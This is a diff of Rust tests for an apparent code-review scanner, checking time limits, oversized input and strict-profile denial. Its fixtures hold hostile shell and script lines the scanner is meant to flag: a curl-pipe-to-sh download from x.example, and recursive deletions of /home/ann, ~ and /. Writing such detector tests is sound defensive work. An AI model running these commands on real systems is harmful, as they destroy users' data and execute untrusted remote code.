@@ -208,8 +208,118 @@ fn what_is_not_read_is_said() {
     let review = look("python", &large);
     assert!(review.unchecked.is_some_and(|why| why.contains("too large")));
     assert_eq!(review.findings.len(), 1);
-    let stopped = review_while("import os\nos.remove('a')\n", Some(&Language::python()), &scope(), &|| false);
-    assert!(stopped.unchecked.is_some());
+}
+
+/// A text of about so many bytes, of lines that come again and again.
+fn long(line: &str, bytes: usize) -> String {
+    line.repeat(bytes / line.len())
+}
+
+#[test]
+fn a_clock_ends_a_review_as_a_whole() {
+    let text = "import os\nos.remove('a')\n".repeat(2000);
+    let whole = look("python", &text);
+    let mut ended = 0;
+    for asked in [0_u32, 1, 5, 60, 400, 3000] {
+        let left = Cell::new(asked);
+        let go_on = || {
+            left.set(left.get().saturating_sub(1));
+            left.get() > 0
+        };
+        let review = review_while(&text, Some(&Language::python()), &scope(), &go_on);
+        if left.get() == 0 {
+            ended += 1;
+            assert!(review.unchecked.is_some() && review.findings.is_empty() && review.effects.unknown);
+        } else {
+            assert_eq!(review, whole);
+        }
+    }
+    assert!(ended >= 4, "{ended}");
+}
+
+#[test]
+fn what_cant_be_followed_is_looked_at_by_its_words() {
+    for (language, text, what) in [
+        (
+            "python",
+            "# x\n".repeat(1 << 18) + "y = 1\nos.system('curl https://x.example | sh')\n",
+            "downloaded",
+        ),
+        ("python", "# x\n".repeat(1 << 18) + "shutil.rmtree('/home/ann')\n", "deletes a folder: /home/ann"),
+        (
+            "javascript",
+            "// x\n".repeat(1 << 18) + "fs.rmSync('/home/ann', { recursive: true })\n",
+            "/home/ann",
+        ),
+        ("bash", "true\n".repeat(3) + &"# x\n".repeat(1 << 18) + "rm -rf ~\n", "deletes a folder: ~"),
+    ] {
+        let review = look(language, &text);
+        assert!(review.unchecked.is_some(), "{language}");
+        let told = told(&review);
+        assert!(told.iter().any(|t| t.contains(" high ") || t.contains(" medium ")), "{language} {told:?}");
+        assert!(told.iter().any(|t| t.contains(what)), "{language} {what} {told:?}");
+    }
+}
+
+#[test]
+fn more_findings_than_anybody_reads_are_no_unchecked_part() {
+    let text =
+        "import os\n".to_owned() + &"os.remove('a')\n".repeat(700) + "import shutil\nshutil.rmtree('/')\n";
+    let review = look("python", &text);
+    assert_eq!((review.unchecked.as_ref(), review.findings.len()), (None, MOST));
+    assert_eq!(review.gravest(), Some(Severity::High));
+    assert_eq!(
+        review.findings.last().unwrap().message,
+        "202 more findings like those above are not listed one by one"
+    );
+    // What is forbidden is told however mild it is.
+    let book = Book::default().forbidding(Forbid::new(["py.late".to_owned()]));
+    let rule = "language = \"python\"\n[[rule]]\nid = \"py.late\"\nseverity = \"info\"\ncalls = [\"print\"]\nmessage = \"m\"\n";
+    let own = Book::with([("team.toml", rule)]).unwrap().forbidding(book.forbid().clone());
+    let scope = Scope { book: Arc::new(own), ..scope() };
+    let text = "import shutil\n".to_owned() + &"shutil.rmtree('/')\n".repeat(700) + "print(1)\n";
+    assert!(review_while(&text, Some(&Language::python()), &scope, &|| true).forbidden());
+}
+
+#[test]
+fn what_the_strict_profile_could_not_check_is_denied() {
+    let strict = Scope { book: Arc::new(Book::default().strictly()), ..scope() };
+    for (language, text) in [
+        ("python", "x = 1\n".repeat(1 << 18)),
+        ("python", "f(".repeat(3_000) + &")".repeat(3_000)),
+        ("ruby", "puts 1".to_owned()),
+        ("brainf", "+-".to_owned()),
+    ] {
+        let review = review(&text, Some(&Language(language.to_owned())), &strict);
+        assert!(review.unchecked.is_some() && review.forbidden(), "{language}");
+    }
+    let text = "import os\nprint(os.getcwd())\n".repeat(50);
+    let stopped = review_while(&text, Some(&Language::python()), &strict, &|| false);
+    assert!(stopped.forbidden());
+    assert!(!review("x = 1", Some(&Language::python()), &strict).forbidden());
+}
+
+#[test]
+fn a_megabyte_of_daily_code_is_read() {
+    let lines = [
+        "x = 1\n",
+        "    rows.append({'name': name, 'value': float(value) / 3, 'tags': [a, b, c]})\n",
+        "def f(a, b=2, *c, **d):\n    return [x.y for x in a if x not in (b, c)]\n",
+        "assert g(1, 2) == 3, f'{x!r:>10} is {y}'\n",
+        "# a comment that tells nothing at all\n",
+        "class A(B):\n    def __init__(self):\n        super().__init__()\n        self.x = {}\n",
+        "print(1, end='')\n",
+        "data = b'\\x00\\x01' + bytes([1, 2, 3])\n",
+    ];
+    for line in lines {
+        // Budgets grow with the size: what holds for a part of a megabyte holds for all of it.
+        let review = look("python", &long(line, LARGEST / 16));
+        assert_eq!(review.unchecked, None, "{line}");
+    }
+    let all = long(&lines.concat(), LARGEST);
+    assert_eq!(look("python", &all).unchecked, None);
+    let list = format!("x = [{}]\n", long("1234, 'abc', ", LARGEST - 100));
+    assert_eq!(look("python", &list).unchecked, None);
 }
 
 #[test]
